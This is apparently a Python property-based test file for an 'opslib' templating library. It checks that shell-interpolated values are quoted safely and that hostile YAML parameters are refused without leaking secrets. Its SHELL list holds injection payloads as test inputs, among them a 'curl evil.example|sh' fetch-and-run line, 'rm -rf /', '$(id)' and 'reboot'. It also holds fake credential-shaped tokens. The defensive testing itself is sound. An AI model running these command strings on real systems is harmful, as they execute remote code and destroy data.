"""Property-based hostile input (Hypothesis), issue 22.

1. Shell quoting: any value interpolated into a command reaches the shell as exactly that
   value, wherever the template puts it (a word, '…', "…", $(…) inside "…", a comment):
   checked by running bash.
2. Hostile parameters: the examples mutated at random places — long strings, control
   characters, shell metacharacters, unicode, huge and non-finite numbers, deep nesting, and
   secret-looking keys and values — either load or are refused with a ParamsError/InputError
   that names the file and never repeats a secret; never another exception.
3. (slow) What loads also renders, or is refused with an OpslibError, and no written file
   holds a secret value.
"""

from __future__ import annotations

import base64
import math
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml
from conftest import PARAMS, REPO
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from opslib.core.templates import SHELL_INERT, render_string
from opslib.errors import InputError, OpslibError
from opslib.params.models import load_params

TOKENS = ["AKIAIOSFODNN7EXAMPLF", "ghp_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789", "xoxb-1234567890-abcdefghij",
          "sk_live_" + "a1B2c3D4e5F6g7H8i9J0k1L2", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"]
SHELL = ["; curl evil.example|sh #", "$(id)", "`id`", "' ; reboot ; '", '" && rm -rf / "', "a\nb", "--exec=x", "~root", "*", "{a,b}",
         "\\", "!!", "|", "&", ">out", "${HOME}"]
text_values = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=40)


# --- 1. shell quoting -------------------------------------------------------------------------


def _bash(script: str) -> str:
    done = subprocess.run(["bash", "--norc", "--noprofile", "-c", script], capture_output=True, timeout=20,
                          env={"PATH": "/usr/bin:/bin", "LC_ALL": "C.UTF-8", "HOME": "/nonexistent"})
    return done.stdout.decode("utf-8", "surrogateescape")  # bytes: no newline translation (a \r stays a \r)


def _words(value: str) -> str:
    """What `printf '[%s]' VALUE` prints for a value left unquoted (inert, so only split)."""
    return "".join(f"[{w}]" for w in value.split()) or "[]"


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(value=st.one_of(text_values, st.sampled_from(SHELL), st.sampled_from(TOKENS)))
def test_interpolated_values_reach_the_shell_as_they_are(value):
    literal = not SHELL_INERT.fullmatch(value)
    cases = {
        "printf '[%s]' {{ v }}": f"[{value}]" if literal else _words(value),
        "printf '[%s]' '{{ v }}'": f"[{value}]",
        'printf \'[%s]\' "{{ v }}"': f"[{value}]",
        'printf \'[%s]\' "$(printf %s {{ v }})"': f"[{value}]" if literal else f"[{''.join(value.split())}]",
        "printf '[%s]' x # {{ v }}\nprintf '[%s]' y": "[x][y]",
        "printf '[%s]' pre{{ v }}post": f"[pre{value}post]" if literal else _words(f"pre{value}post"),
    }
    for template, expected in cases.items():
        command = render_string(template, {"v": value}, shell=True)
        got = _bash(command)
        if "$(" in template:  # command substitution drops trailing newlines, as it does for any value
            expected = expected[:-1].rstrip("\n") + "]"
        assert got == expected, (template, command)


# --- 2. hostile parameters ----------------------------------------------------------------------


def _paths(node, loc=()):
    """Every location of the structure: mappings, lists and scalars."""
    yield loc
    if isinstance(node, dict):
        for k, v in node.items():
            yield from _paths(v, loc + (k,))
    elif isinstance(node, list):
        for i, v in enumerate(node):
            yield from _paths(v, loc + (i,))


def _set(node, loc, value):
    for key in loc[:-1]:
        node = node[key]
    node[loc[-1]] = value


def _deep(depth: int, leaf):
    for _ in range(depth):
        leaf = {"x": leaf} if depth % 2 else [leaf]
    return leaf


hostile_scalars = st.one_of(
    st.sampled_from(SHELL), st.sampled_from(TOKENS), text_values,
    st.builds(lambda piece, n: piece * n, st.sampled_from(["a", "a.", "x ", "é", "sk-", "://"]), st.integers(3_400, 300_000)),
    st.sampled_from(["\x07bell", "tab\there", "esc\x1b[31m", "\u202eevil", "日本語", "ﬁ", "\ufeff", "é" * 50]),
    st.sampled_from([1e308, -1e308, math.inf, -math.inf, math.nan, 10**400, -(10**30), 2**63, 0, -1, 1e-320]),
    st.sampled_from(TOKENS).map(lambda t: f"key_{t}"),
    st.sampled_from(TOKENS).map(lambda t: base64.b64encode(t.encode())),  # bytes: dumped as !!binary
)


@st.composite
def mutated(draw):
    source = draw(st.sampled_from(sorted(PARAMS.glob("*.yaml"))))
    data = yaml.safe_load(source.read_text())
    for _ in range(draw(st.integers(1, 3))):
        paths = [p for p in _paths(data) if p]
        loc = draw(st.sampled_from(paths))
        kind = draw(st.sampled_from(["replace", "key", "nest"]))
        if kind == "replace":
            _set(data, loc, draw(hostile_scalars))
        elif kind == "key":
            parent = data
            for key in loc[:-1]:
                parent = parent[key]
            if isinstance(parent, dict):
                parent[draw(st.one_of(st.sampled_from(TOKENS), st.sampled_from(SHELL), text_values.filter(bool)))] = draw(hostile_scalars)
        else:
            _set(data, loc, _deep(draw(st.integers(2, 90)), draw(hostile_scalars)))
    return source, data


def _write_case(folder, source, data):
    """The mutated parameters as parameters/<name>.yaml in `folder`, the examples' linked files beside."""
    path = folder / "parameters" / source.name
    path.parent.mkdir()
    shutil.copytree(REPO / "examples", folder / "examples")
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10**6))
    return path


@pytest.mark.timeout(600)
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(case=mutated())
def test_hostile_parameters_load_or_are_refused_cleanly(tmp_path_factory, case):
    source, data = case
    path = _write_case(tmp_path_factory.mktemp("params"), source, data)
    try:
        load_params(path)
    except InputError as exc:  # ParamsError is one
        message = str(exc)
        assert message.startswith(str(path)), message[:200]
        for token in TOKENS:
            leaks = [ln.replace(token, "<TOKEN>") for ln in message.splitlines() if token in ln]
            assert not leaks, f"a secret value was repeated in the message: {leaks}"


# --- 3. what loads also renders (slow) ---------------------------------------------------------


@pytest.mark.slow
@pytest.mark.timeout(1200)
@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(case=mutated())
def test_hostile_parameters_that_load_render_or_are_refused(tmp_path_factory, case):
    from opslib.run.render import render_project

    source, data = case
    folder = tmp_path_factory.mktemp("render")
    path = _write_case(folder, source, data)
    try:
        load_params(path)
    except InputError:
        return
    try:
        render_project(path, folder / "out")
    except OpslibError as exc:
        for token in TOKENS:
            assert token not in str(exc)
    for file in (folder / "out").rglob("*") if (folder / "out").exists() else []:
        if file.is_file():
            content = file.read_bytes()
            for token in TOKENS:
                assert token.encode() not in content, f"{file.name} holds a secret value"
    assert not [p for p in (folder / "out").glob(".*")] if (folder / "out").exists() else True
    assert Path(path).read_text()  # the input is untouched
